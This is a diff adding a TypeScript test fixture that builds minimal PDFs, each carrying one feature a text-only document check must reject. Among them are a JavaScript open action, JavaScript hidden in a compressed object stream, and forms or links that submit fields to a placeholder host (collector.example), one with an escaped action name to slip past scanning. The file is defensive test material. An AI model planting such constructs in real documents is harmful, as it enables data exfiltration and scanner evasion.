@@ -1,0 +1,186 @@
+import { deflateSync } from 'node:zlib';
+
+/**
+ * PDFs written object by object, with a correct cross-reference table, so each
+ * test document holds exactly the feature under test (one image, one embedded
+ * file, one action...) next to otherwise ordinary text.
+ */
+export interface PdfOptions {
+  /** Page content stream (text operators by default). */
+  content?: string;
+  /** Extra entries of the page's /Resources dictionary. */
+  resources?: string;
+  /** Extra entries of the catalog. */
+  catalog?: string;
+  /** Extra entries of the page dictionary. */
+  page?: string;
+  /** Further objects, numbered from 6 on: a string, or a dictionary with its stream. */
+  objects?: (string | { dict: string; stream: Buffer })[];
+  /** Extra entries of the trailer. */
+  trailer?: string;
+  /** Encode the page content (FlateDecode or ASCIIHexDecode). */
+  encode?: 'flate' | 'hex';
+}
+
+export const PDF_TEXT = 'Transaction export: merchant example.test, 3 payments, see hashes.';
+
+const stream = (dict: string, data: Buffer): Buffer =>
+  Buffer.concat([
+    Buffer.from(`<< ${dict} /Length ${data.length} >>\nstream\n`, 'latin1'),
+    data,
+    Buffer.from('\nendstream', 'latin1'),
+  ]);
+
+export function buildPdf(options: PdfOptions = {}): Buffer {
+  const content = Buffer.from(options.content ?? `BT /F1 12 Tf 72 720 Td (${PDF_TEXT}) Tj ET`);
+  const contentObject =
+    options.encode === 'flate'
+      ? stream('/Filter /FlateDecode', deflateSync(content))
+      : options.encode === 'hex'
+        ? stream('/Filter /ASCIIHexDecode', Buffer.from(`${content.toString('hex')}>`))
+        : stream('', content);
+  const bodies: Buffer[] = [
+    Buffer.from(`<< /Type /Catalog /Pages 2 0 R ${options.catalog ?? ''} >>`),
+    Buffer.from('<< /Type /Pages /Kids [3 0 R] /Count 1 >>'),
+    Buffer.from(
+      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R ` +
+        `/Resources << /Font << /F1 5 0 R >> ${options.resources ?? ''} >> ${options.page ?? ''} >>`,
+    ),
+    contentObject,
+    Buffer.from('<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'),
+    ...(options.objects ?? []).map((o) =>
+      typeof o === 'string' ? Buffer.from(o, 'latin1') : stream(o.dict, o.stream),
+    ),
+  ];
+  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
+  let length = parts[0].length;
+  const offsets: number[] = [];
+  bodies.forEach((body, i) => {
+    offsets.push(length);
+    const object = Buffer.concat([
+      Buffer.from(`${i + 1} 0 obj\n`),
+      body,
+      Buffer.from('\nendobj\n'),
+    ]);
+    parts.push(object);
+    length += object.length;
+  });
+  const xref = [
+    'xref',
+    `0 ${bodies.length + 1}`,
+    '0000000000 65535 f ',
+    ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n `),
+    'trailer',
+    `<< /Size ${bodies.length + 1} /Root 1 0 R ${options.trailer ?? ''} >>`,
+    'startxref',
+    String(length),
+    '%%EOF',
+    '',
+  ].join('\n');
+  parts.push(Buffer.from(xref, 'latin1'));
+  return Buffer.concat(parts);
+}
+
+/** A 1×1 PNG: what must never be held, in whatever wrapper it arrives. */
+export const PNG_1X1 = Buffer.from(
+  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
+  'base64',
+);
+
+/** A stored (uncompressed) ZIP archive holding one PNG. */
+export function zipHoldingPng(): Buffer {
+  const name = Buffer.from('evidence.png');
+  const header = Buffer.alloc(30);
+  header.writeUInt32LE(0x04034b50, 0);
+  header.writeUInt16LE(20, 4);
+  header.writeUInt32LE(PNG_1X1.length, 18);
+  header.writeUInt32LE(PNG_1X1.length, 22);
+  header.writeUInt16LE(name.length, 26);
+  return Buffer.concat([header, name, PNG_1X1]);
+}
+
+const imageObject = (): { dict: string; stream: Buffer } => ({
+  dict: '/Type /XObject /Subtype /Image /Width 2 /Height 2 /ColorSpace /DeviceGray /BitsPerComponent 8',
+  stream: Buffer.from([0, 255, 255, 0]),
+});
+
+/** One PDF per thing a text-only document must not hold. */
+export const FORBIDDEN_PDFS: Record<string, () => Buffer> = {
+  'an image XObject': () =>
+    buildPdf({
+      resources: '/XObject << /Im1 6 0 R >>',
+      content: `BT /F1 12 Tf 72 720 Td (${PDF_TEXT}) Tj ET q 100 0 0 100 72 500 cm /Im1 Do Q`,
+      objects: [imageObject()],
+    }),
+  'an image XObject that no page paints': () =>
+    buildPdf({ resources: '/XObject << /Im1 6 0 R >>', objects: [imageObject()] }),
+  'an inline image': () =>
+    buildPdf({
+      encode: 'flate',
+      content: `BT /F1 12 Tf 72 720 Td (${PDF_TEXT}) Tj ET q 100 0 0 100 72 500 cm BI /W 2 /H 2 /CS /G /BPC 8 ID \x00\xff\xff\x00 EI Q`,
+    }),
+  // Hex-encoded content is not decoded by the structural scan: pdfjs finds this one.
+  'an inline image in hex-encoded content': () =>
+    buildPdf({
+      encode: 'hex',
+      content: `BT /F1 12 Tf 72 720 Td (${PDF_TEXT}) Tj ET q 100 0 0 100 72 500 cm BI /W 2 /H 2 /CS /G /BPC 8 ID \x00\xff\xff\x00 EI Q`,
+    }),
+  'an image inside a form XObject': () =>
+    buildPdf({
+      resources: '/XObject << /Fm1 6 0 R >>',
+      content: `BT /F1 12 Tf 72 720 Td (${PDF_TEXT}) Tj ET /Fm1 Do`,
+      objects: [
+        {
+          dict: '/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << /Im1 7 0 R >> >>',
+          stream: Buffer.from('q 100 0 0 100 72 500 cm /Im1 Do Q'),
+        },
+        imageObject(),
+      ],
+    }),
+  'an embedded file': () =>
+    buildPdf({
+      catalog: '/Names << /EmbeddedFiles << /Names [(evidence.png) 6 0 R] >> >>',
+      objects: [
+        '<< /Type /Filespec /F (evidence.png) /UF (evidence.png) /EF << /F 7 0 R >> >>',
+        { dict: '/Type /EmbeddedFile', stream: PNG_1X1 },
+      ],
+    }),
+  'a JavaScript open action': () =>
+    buildPdf({
+      catalog: '/OpenAction 6 0 R',
+      objects: ['<< /S /JavaScript /JS (app.alert(1)) >>'],
+    }),
+  'a form submitting its fields': () =>
+    buildPdf({
+      catalog: '/AcroForm << /Fields [6 0 R] >>',
+      page: '/Annots [6 0 R]',
+      objects: [
+        '<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [72 600 200 630] /P 3 0 R ' +
+          '/A << /S /SubmitForm /F << /FS /URL /F (https://collector.example/submit) >> >> >>',
+      ],
+    }),
+  'a link that submits a form, its name escaped': () =>
+    buildPdf({
+      page: '/Annots [6 0 R]',
+      objects: [
+        '<< /Type /Annot /Subtype /Link /Rect [72 600 200 630] /A << /S /Submit#46orm /F (https://collector.example/) >> >>',
+      ],
+    }),
+  'JavaScript hidden in a compressed object stream': () =>
+    buildPdf({
+      catalog: '/OpenAction 7 0 R',
+      objects: [
+        {
+          dict: '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
+          stream: deflateSync(Buffer.from('7 0 << /S /JavaScript /JS (app.alert(1)) >>')),
+        },
+      ],
+    }),
+  'an encrypted body': () =>
+    buildPdf({
+      trailer: `/Encrypt 6 0 R /ID [<${'ab'.repeat(16)}> <${'ab'.repeat(16)}>]`,
+      objects: [
+        `<< /Filter /Standard /V 1 /R 2 /P -4 /O <${'11'.repeat(32)}> /U <${'22'.repeat(32)}> >>`,
+      ],
+    }),
+};
